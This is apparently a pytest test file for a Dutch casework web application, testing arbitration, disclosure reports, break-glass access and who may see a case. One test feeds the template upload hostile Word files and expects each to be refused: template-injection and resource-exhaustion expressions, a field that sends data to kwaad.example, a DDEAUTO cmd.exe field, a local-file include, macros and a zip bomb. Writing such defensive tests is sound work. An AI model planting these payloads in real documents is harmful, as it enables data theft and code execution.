"""Decisions and trust: scenario's, scaling, arbitrage, disclosure, break-glass, who sees a casus (C11-C16)."""

import io
import zipfile
from datetime import timedelta

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import IntegrityError, transaction
from django.urls import reverse
from django.utils import timezone
from docx import Document
from docx.oxml import OxmlElement

from casuistiek import rapport, services
from casuistiek.models import Casus, Noodtoegang, Overdracht, Sjabloon, Verstrekking
from casuistiek.wie_ziet import wie_ziet
from logboek.models import Logregel
from notificaties.models import Notificatie
from organisatie.models import Medewerker
from regels.begrippen import RegelOvertreden
from tests import factories
from tests.factories import op

pytestmark = pytest.mark.django_db
MAANDAG = op("2026-11-23", 10)


@pytest.fixture(autouse=True)
def _clock():
    with time_machine.travel(MAANDAG, tick=False):
        yield


def heard(person, part):
    return Notificatie.objects.filter(ontvanger=person, tekst__contains=part).count()


# --- scenario's and scaling ------------------------------------------------------------------------------


def test_a_scenario_changed_after_sharing_is_not_what_was_shared(bt):
    casus, gemeente = factories.casus(bt), factories.partner(bt.team)
    row = services.save_scenario(
        casus=casus, by=bt.woe, naam="Druk op het plein", handelingskader="Aanspreken."
    )
    shared = services.share_scenario(scenario=row, by=bt.osc, organisatie=gemeente)
    assert (shared.gedeeld_met, shared.gedeeld_door) == (gemeente, bt.osc)

    changed = services.save_scenario(
        casus=casus, scenario=row, by=bt.woe, naam="Druk op het plein", handelingskader="Plein ontruimen."
    )

    assert changed.pk == row.pk
    assert changed.gedeeld_op is None


def test_scaling_says_to_whom_by_whom_and_why_and_back(bt):
    casus = factories.casus(bt)

    services.scale_up(
        casus=casus,
        by=bt.woe,
        naar="anders",
        waarheen="taskforce",
        besloten_door="driehoek",
        reden="Te groot.",
    )
    assert str(casus.opschalingen.get(tot=None)) == "taskforce"
    services.scale_down(casus=casus, by=bt.woe, reden="Weer rustig.")

    row = casus.opschalingen.get()
    assert (row.besloten_door, row.reden_afschalen) == ("driehoek", "Weer rustig.")
    assert Casus.objects.get(pk=casus.pk).fase == "regie"
    assert factories.regisseur_van(casus) == bt.woe.pk


def test_freeing_somebody_is_told_and_ends_nothing(bt):
    casus = factories.casus(bt)

    services.free_medewerker(casus=casus, by=bt.osc, medewerker=bt.woe, waarvan="de weekenddienst")

    assert heard(bt.woe, "vrijgemaakt") == 1
    assert factories.regisseur_van(casus) == bt.woe.pk


# --- arbitrage -----------------------------------------------------------------------------------------


def test_both_sides_then_a_decision_that_asks_the_chosen_regisseur(bt):
    casus = factories.casus(bt)
    row = services.ask_arbitrage(
        casus=casus,
        by=bt.woe,
        vraag="Van wie is dit?",
        tekst="Van Zorg.",
        bron="Portefeuilleplan",
        ander=bt.houder,
    )
    assert heard(bt.chef, "Er ligt een vraag") == heard(bt.houder, "Geef jouw kant") == 1
    with pytest.raises(RegelOvertreden, match="nog maar één kant"):
        services.decide_arbitrage(arbitrage=row, by=bt.chef, besluit="Zorg.", regisseur=bt.houder)
    services.give_standpunt(arbitrage=row, by=bt.houder, tekst="Van het gebied.", bron="Werkafspraak 2022")

    services.decide_arbitrage(arbitrage=row, by=bt.chef, besluit="Zorg neemt het.", regisseur=bt.houder)

    assert factories.open_aanbod(casus).aan == bt.houder
    assert factories.regisseur_van(casus) == bt.woe.pk  # until it is accepted
    assert heard(bt.woe, "De teamchef nam een besluit") == 1
    with pytest.raises(RegelOvertreden, match="al besloten"):
        services.decide_arbitrage(arbitrage=row, by=bt.chef, besluit="Toch niet.")


def test_who_asked_does_not_decide(bt):
    casus = factories.casus(bt)
    row = services.ask_arbitrage(casus=casus, by=bt.chef, vraag="Van wie?", tekst="x")
    services.give_standpunt(arbitrage=row, by=bt.woe, tekst="y")

    with pytest.raises(RegelOvertreden, match="zelf"):
        services.decide_arbitrage(arbitrage=row, by=bt.chef, besluit="Van mij.")
    with pytest.raises(IntegrityError), transaction.atomic():
        type(row).objects.filter(pk=row.pk).update(
            besluit="x", besloten_op=timezone.now(), besloten_door=bt.chef
        )


def test_who_sees_it_differently_can_read_it_and_say_so(bt, client):
    casus = factories.casus(bt)
    row = services.ask_arbitrage(casus=casus, by=bt.woe, vraag="Van wie?", tekst="x", ander=bt.vervanger)
    client.force_login(bt.vervanger)

    client.post(
        reverse("casuistiek:arbitrage", args=[row.pk]), {"stap": "kant", "kant-tekst": "Van het gebied."}
    )

    assert row.standpunten.filter(medewerker=bt.vervanger, tekst="Van het gebied.").exists()


def test_only_the_teamchef_decides(bt, client):
    casus = factories.casus(bt)
    row = services.ask_arbitrage(casus=casus, by=bt.woe, vraag="Van wie?", tekst="x")
    services.give_standpunt(arbitrage=row, by=bt.oe, tekst="y")
    client.force_login(bt.osc)

    response = client.post(
        reverse("casuistiek:arbitrage", args=[row.pk]), {"stap": "besluit", "besluit-besluit": "Mij."}
    )

    assert response.status_code == 404
    row.refresh_from_db()
    assert row.besloten_op is None


# --- disclosure ----------------------------------------------------------------------------------------


def disclosed(bt, onderdelen, **anders):
    casus = factories.casus(
        bt, titel="Geheime titel", situatie="Geheime situatie", wat_gebeurd="Wat er & <was>"
    )
    gemeente = factories.partner(bt.team)
    return services.disclose(
        casus=casus,
        by=bt.woe,
        **{
            "organisatie": gemeente,
            "ontvanger": "de burgemeester",
            "grondslag": "wpg16",
            "doel": "Maatregel overwegen",
            "onderdelen": onderdelen,
            **anders,
        },
    )


def eigen_sjabloon(bt):
    return services.sjabloon_bytes(services.sjabloon_of(bt.team.pk))


def parts_of(content):
    """All text in a .docx, from every file inside it."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "\n".join(archive.read(name).decode("utf-8", "replace") for name in archive.namelist())


def test_what_was_left_out_is_nowhere_in_the_files(bt):
    row = disclosed(bt, ["wat_gebeurd"])

    word = rapport.make_docx(row.inhoud, eigen_sjabloon(bt))
    pdf = rapport.make_rapport_pdf(row.inhoud)

    assert "Wat er &amp; &lt;was&gt;" in parts_of(word)
    for secret in ("Geheime", bt.woe.naam, "python-docx"):
        assert secret not in parts_of(word)
        assert secret.encode() not in pdf
    assert pdf.startswith(b"%PDF")
    assert [p.text for p in Document(io.BytesIO(word)).paragraphs if p.text.startswith("Doel")] == [
        "Doel: Maatregel overwegen"
    ]


@pytest.mark.parametrize("onderdeel", rapport.VELDEN)
def test_each_part_can_be_chosen_alone(bt, onderdeel):
    row = disclosed(bt, [onderdeel], maatregelen="Sluit de woning.")

    assert {deel["kop"] for deel in row.inhoud["delen"]} <= {rapport.VELDEN[onderdeel]}
    assert rapport.make_rapport_pdf(row.inhoud).startswith(b"%PDF")


def test_dates_in_the_report_are_those_of_here(bt):
    with time_machine.travel(op("2026-07-02", 0, 30), tick=False):
        row = disclosed(bt, ["periode"])

    assert row.inhoud["delen"][0]["regels"] == ["Vanaf 02-07-2026, loopt nog"]


def test_a_character_without_a_shape_is_no_fault(bt):
    row = disclosed(bt, ["maatregelen"], maatregelen="Sluit de woning 🔥 漢 é")

    assert rapport.make_rapport_pdf(row.inhoud).startswith(b"%PDF")


def test_what_goes_in_can_be_seen_first(bt, client):
    casus, gemeente = factories.casus(bt), factories.partner(bt.team)
    client.force_login(bt.woe)

    html = client.post(
        reverse("casuistiek:disclose", args=[casus.pk]),
        {
            "organisatie": gemeente.pk,
            "ontvanger": "x",
            "grondslag": "wpg16",
            "doel": "y",
            "onderdelen": ["wat_gebeurd"],
            "stap": "bekijk",
        },
    ).content.decode()

    assert "Dit komt erin" in html
    assert not Verstrekking.objects.exists()


def test_a_disclosure_is_frozen_as_it_was_given(bt):
    row = disclosed(bt, ["titel"])
    services.change_casus(
        casus=row.casus,
        by=bt.woe,
        versie=None,
        gebieden=[bt.binnenstad],
        portefeuilles=[],
        titel="Andere titel",
    )

    row.refresh_from_db()
    assert row.inhoud["delen"][0]["regels"] == ["Geheime titel"]


@pytest.mark.parametrize("anders", [{"doel": " "}, {"ontvanger": ""}, {"grondslag": ""}, {"onderdelen": []}])
def test_basis_receiver_and_purpose_are_required(bt, anders):
    onderdelen = anders.pop("onderdelen", ["titel"])

    with pytest.raises(RegelOvertreden):
        disclosed(bt, onderdelen, **anders)
    assert not Verstrekking.objects.exists()


def test_the_database_refuses_a_disclosure_without_purpose(bt):
    row = disclosed(bt, ["titel"])

    with pytest.raises(IntegrityError), transaction.atomic():
        Verstrekking.objects.filter(pk=row.pk).update(doel="")


def test_making_and_fetching_are_in_the_logboek_with_the_receiver(bt, client):
    row = disclosed(bt, ["titel"])
    client.force_login(bt.woe)
    client.get(reverse("casuistiek:verstrekking-docx", args=[row.pk]))
    client.get(reverse("casuistiek:verstrekking-pdf", args=[row.pk]))

    found = Logregel.objects.filter(actie__in=["casus.disclosed", "casus.exported"]).order_by("pk")
    naar = f"organisatie {row.organisatie_id}"  # a name could not be erased from the logboek
    assert [(r.actie, r.reden, r.ontvanger) for r in found] == [
        ("casus.disclosed", "", naar),
        ("casus.exported", "docx", naar),
        ("casus.exported", "pdf", naar),
    ]


def word_file(*lines):
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    return rapport.as_bytes(document)


def test_the_team_brings_its_own_template(bt, client):
    client.force_login(bt.chef)
    eigen = word_file("Eigen huisstijl voor {{ ontvanger }}")

    client.post(reverse("casuistiek:sjabloon"), {"bestand": SimpleUploadedFile("eigen.docx", eigen)})

    row = disclosed(bt, ["titel"])
    assert "Eigen huisstijl voor de burgemeester" in parts_of(
        rapport.make_docx(row.inhoud, eigen_sjabloon(bt))
    )
    client.post(reverse("casuistiek:sjabloon-remove"))
    assert "Eigen huisstijl" not in parts_of(eigen_sjabloon(bt))


def zip_with(content, name, text):
    buffer = io.BytesIO(content)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, text)
    return buffer.getvalue()


def with_picture_from_outside():
    document = Document()
    document.part.relate_to(
        "https://kwaad.example/p.png",
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image",
        is_external=True,
    )
    return rapport.as_bytes(document)


def with_field(*codes):
    """A document with a Word field, its code in one piece or split as Word does."""
    document = Document()
    run = document.add_paragraph().add_run()
    for code in codes:
        element = OxmlElement("w:instrText")
        element.text = code
        run._r.append(element)
    return rapport.as_bytes(document)


@pytest.mark.parametrize(
    ("maak", "zegt"),
    [
        (lambda: b"geen zip", "geen Word-document"),
        (lambda: word_file("{{ titel"), "een invulveld klopt niet"),
        (lambda: word_file("{% for x in %}"), "een invulveld klopt niet"),
        (lambda: word_file("{% set x = 'a' * 300000000 %}"), "een invulveld klopt niet"),
        (lambda: word_file("{% for a in range(99999) %}x{% endfor %}"), "een invulveld klopt niet"),
        (
            lambda: word_file("{% macro a() %}{{ a() }}{{ a() }}{% endmacro %}{{ a() }}"),
            "een invulveld klopt niet",
        ),
        (lambda: word_file("{{ titel|center(999999999) }}"), "een invulveld klopt niet"),
        (lambda: with_field('INCLUDEPICTURE "https://kwaad.example/?q={{ doel }}"'), "een veld in"),
        (lambda: with_field("INCL", "UDETEXT c:\\x"), "een veld in"),
        (lambda: with_field("DDEAUTO c:\\cmd.exe"), "een veld in"),
        (lambda: word_file("{{ ''.__class__.__mro__ }}"), "een invulveld klopt niet"),
        (lambda: zip_with(word_file("x"), "word/vbaProject.bin", "x"), "macro"),
        (lambda: zip_with(word_file("x"), "word/groot.xml", "0" * (21 * 1024 * 1024)), "uitgepakt te groot"),
        (with_picture_from_outside, "van buiten"),
        (lambda: b"PK" + b"0" * (2 * 1024 * 1024), "groter dan 2 MB"),
    ],
)
def test_a_template_that_does_not_work_is_refused_and_the_old_one_stays(bt, client, maak, zegt):
    client.force_login(bt.chef)

    response = client.post(reverse("casuistiek:sjabloon"), {"bestand": SimpleUploadedFile("x.docx", maak())})

    assert zegt in response.content.decode()
    assert not Sjabloon.objects.exists()


# --- break-glass and who sees -----------------------------------------------------------------------------


def test_break_glass_opens_for_a_day_and_is_told(bt, client):
    casus = factories.casus(bt, vertrouwelijk=True)
    client.force_login(bt.ggp)
    url = reverse("casuistiek:casus", args=[casus.pk])
    assert client.get(url).status_code == 404

    client.post(
        reverse("casuistiek:noodtoegang"),
        {"referentie": casus.referentie, "reden": "De moeder staat nu aan de balie."},
    )

    assert client.get(url).status_code == 200
    assert heard(bt.woe, "noodtoegang") == heard(bt.chef, "noodtoegang") == 1
    Noodtoegang.objects.update(tot=timezone.now())
    assert client.get(url).status_code == 404


def test_break_glass_is_for_reading_and_bijschrijven_not_for_taking_over(bt, client):
    casus = factories.casus(bt, vertrouwelijk=True)
    services.open_noodtoegang(
        team=bt.team, by=bt.ggp, referentie=casus.referentie, reden="Ik ben nieuwsgierig."
    )
    client.force_login(bt.ggp)

    statuses = {
        name: client.post(reverse(f"casuistiek:{name}", args=[casus.pk])).status_code
        for name in (
            "take-over",
            "betrokkene-add",
            "disclose",
            "partner-add",
            "shop-add",
            "debrief-add",
            "casus-change",
            "arbitrage-ask",
        )
    }

    assert set(statuses.values()) == {403}
    assert client.get(reverse("casuistiek:gebeurtenis-add", args=[casus.pk])).status_code == 200
    assert "Ik neem over" not in client.get(casus.get_absolute_url()).content.decode()


def test_turned_down_once_it_does_not_open_again(bt):
    casus = factories.casus(bt)
    vraag = {"team": bt.team, "by": bt.ggp, "referentie": casus.referentie, "reden": "Ik ben nieuwsgierig."}
    row = services.open_noodtoegang(**vraag)
    services.judge_noodtoegang(noodtoegang=row, by=bt.chef, oordeel="onterecht")

    assert services.open_noodtoegang(**vraag) is None
    assert heard(bt.chef, "wilde weer met noodtoegang") == 1


def test_trying_numbers_is_told(bt):
    for nummer in (91, 92, 93, 94):
        services.open_noodtoegang(
            team=bt.team, by=bt.ggp, referentie=f"C-{nummer}", reden="Kijken of deze er is."
        )

    assert heard(bt.chef, "probeerde vaak noodtoegang") == 1
    assert Logregel.objects.filter(actie="noodtoegang.asked", reden="C-92").count() == 1


def test_an_unknown_reference_is_recorded_too_and_a_short_reason_opens_nothing(bt, client):
    casus = factories.casus(bt)
    client.force_login(bt.ggp)
    url = reverse("casuistiek:noodtoegang")

    pages = [
        client.post(url, {"referentie": ref, "reden": "nu"}).content for ref in (casus.referentie, "C-99999")
    ]
    assert not Noodtoegang.objects.exists()
    assert [b"tien tekens" in page for page in pages] == [True, True]
    response = client.post(
        url, {"referentie": "C-99999", "reden": "De partner belt over dit nummer."}, follow=True
    )

    html = response.content.decode()
    assert "geen casus met dit nummer" in html
    assert "De partner belt over dit nummer." in html
    assert (
        Logregel.objects.filter(actie="noodtoegang.asked", actor=bt.ggp.pk, uitkomst="geweigerd").count() == 1
    )


@pytest.mark.parametrize("tekst", ["C-1", "c 1", "c1", " 1 "])
def test_a_reference_as_people_type_it(bt, tekst):
    casus = factories.casus(bt)

    row = services.open_noodtoegang(
        team=bt.team, by=bt.ggp, referentie=tekst, reden="De moeder staat aan de balie."
    )

    assert row.casus == casus


def test_who_sees_the_casus_already_raises_no_alarm(bt, client):
    casus = factories.casus(bt)
    client.force_login(bt.oe)

    client.post(
        reverse("casuistiek:noodtoegang"), {"referentie": "C-1", "reden": "Ik moet er nu bij, denk ik."}
    )

    assert not Noodtoegang.objects.exists()
    assert heard(bt.chef, "noodtoegang") == 0
    assert casus.is_open


def test_the_reference_of_another_team_is_unknown(bt, ander, client):
    casus = factories.casus(bt)

    assert (
        services.open_noodtoegang(
            team=ander.team, by=ander.woe, referentie=casus.referentie, reden="Ik wil dit zien."
        )
        is None
    )


def test_turned_down_the_access_ends_and_nobody_judges_oneself(bt):
    casus = factories.casus(bt)
    row = services.open_noodtoegang(
        team=bt.team, by=bt.ggp, referentie=casus.referentie, reden="Ik was nieuwsgierig."
    )
    with pytest.raises(RegelOvertreden, match="eigen noodtoegang"):
        services.judge_noodtoegang(noodtoegang=row, by=bt.ggp, oordeel="terecht")
    with pytest.raises(IntegrityError), transaction.atomic():
        Noodtoegang.objects.filter(pk=row.pk).update(
            oordeel="terecht", beoordeeld_op=timezone.now(), beoordeeld_door=bt.ggp
        )

    services.judge_noodtoegang(noodtoegang=row, by=bt.chef, oordeel="onterecht")

    assert not Casus.objects.visible_to(bt.ggp).exists()


@pytest.mark.parametrize("vertrouwelijk", [False, True])
def test_who_sees_is_the_same_answer_as_visible_to(bt, vertrouwelijk):
    """The page that says for whom a casus exists never differs from what decides it."""
    acuut = factories.overgedragen(bt, portefeuilles=[bt.zorg])
    regie = factories.casus(bt, portefeuilles=[bt.jeugd])
    services.ask_opsporing(casus=regie, by=bt.woe, bij="btr", gevraagd=bt.zaco)
    services.open_noodtoegang(
        team=bt.team, by=bt.intake, referentie=regie.referentie, reden="Nu aan de balie."
    )
    reeks = factories.reeks(bt.team, functies=["ggp"])
    overleg = factories.overleg(reeks)
    from overleggen.services import add_punt

    add_punt(
        overleg=overleg,
        by=bt.woe,
        titel="x",
        doel="besluitvorming",
        gewenst="x",
        minuten=5,
        soort="casus",
        onderwerp=regie,
        criteria=["leerzaam"],
    )
    Casus.objects.update(vertrouwelijk=vertrouwelijk)

    for casus in (Casus.objects.get(pk=acuut.pk), Casus.objects.get(pk=regie.pk)):
        people = Medewerker.objects.filter(plaatsingen__team=bt.team)
        seen = {p.naam for p in people if Casus.objects.visible_to(p).filter(pk=casus.pk).exists()}
        assert {persoon.naam for persoon, _ in wie_ziet(casus)} == seen
        assert all(redenen for _, redenen in wie_ziet(casus))


def test_nobody_accepts_the_own_offer_whatever_road_they_take(bt):
    """S-06: by the service, by another row, and with SQL around everything."""
    casus = factories.overgedragen(bt)
    aanbod = factories.open_aanbod(casus)

    with pytest.raises(RegelOvertreden):
        services.accept_overdracht(overdracht=aanbod, by=bt.opco, teruglezing="Ja.")
    with pytest.raises(RegelOvertreden):
        services.appoint_regisseur(casus=casus, by=bt.opco, aan=bt.opco, reden="Ik.")
    with pytest.raises(IntegrityError), transaction.atomic():
        Overdracht.objects.filter(pk=aanbod.pk).update(aan=bt.opco)
    assert factories.regisseur_van(casus) is None


def test_closing_with_an_open_overdracht_tells_who_was_asked(bt):
    casus = factories.overgedragen(bt)

    services.close_casus(casus=casus, by=bt.opco, reden="Toch niet complex.")

    assert not Overdracht.objects.filter(besloten_op=None).exists()
    assert heard(bt.woe, "is ingetrokken") == 1


def test_a_scenario_that_somebody_else_changed_is_not_overwritten(bt):
    casus = factories.casus(bt)
    row = services.save_scenario(casus=casus, by=bt.woe, naam="A", handelingskader="Eerste")
    services.save_scenario(casus=casus, scenario=row, versie=1, by=bt.oe, naam="A", handelingskader="Tweede")

    with pytest.raises(RegelOvertreden, match="intussen gewijzigd"):
        services.save_scenario(
            casus=casus, scenario=row, versie=1, by=bt.woe, naam="A", handelingskader="Derde"
        )


def test_an_event_in_the_future_is_refused_and_what_was_typed_stays(bt, client):
    casus = factories.casus(bt)
    client.force_login(bt.woe)

    response = client.post(
        reverse("casuistiek:gebeurtenis-add", args=[casus.pk]),
        {"tekst": "Morgen gebeld.", "dag": "2026-11-24", "uur": "9.00"},
    )

    html = response.content.decode()
    assert "Dit moment is nog niet geweest" in html
    assert "Morgen gebeld." in html
    assert timezone.now() < MAANDAG + timedelta(days=1)
